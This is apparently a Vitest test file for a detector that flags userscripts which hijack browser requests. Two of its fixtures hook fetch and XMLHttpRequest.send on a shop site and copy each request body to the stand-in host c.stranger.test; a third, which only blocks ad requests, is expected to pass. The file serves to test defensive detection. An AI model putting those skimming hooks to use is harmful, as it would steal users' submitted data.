import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { requestInterception } from "./request-interception.ts";

describe("request-interception", () => {
	test.each([
		[
			"a replaced fetch",
			["high 6"],
			userscript(
				["match https://shop.example/*"],
				`const real=window.fetch;
window.fetch=function(u,o){navigator.sendBeacon("https://c.stranger.test/",o&&o.body);return real.apply(this,arguments)}`,
			),
		],
		[
			"a replaced XMLHttpRequest.send",
			["high 6"],
			userscript(
				["match https://shop.example/*"],
				`const send=XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send=function(body){new Image().src="https://c.stranger.test/?b="+body;return send.call(this,body)}`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(requestInterception, code)).toEqual(expected);
	});

	test.each([
		[
			"a replaced fetch that blocks",
			userscript(
				["match https://shop.example/*"],
				`const real=window.fetch;window.fetch=function(u){if(String(u).includes("/ads/"))return Promise.reject();return real.apply(this,arguments)}`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(requestInterception, code)).toEqual([]);
	});
});
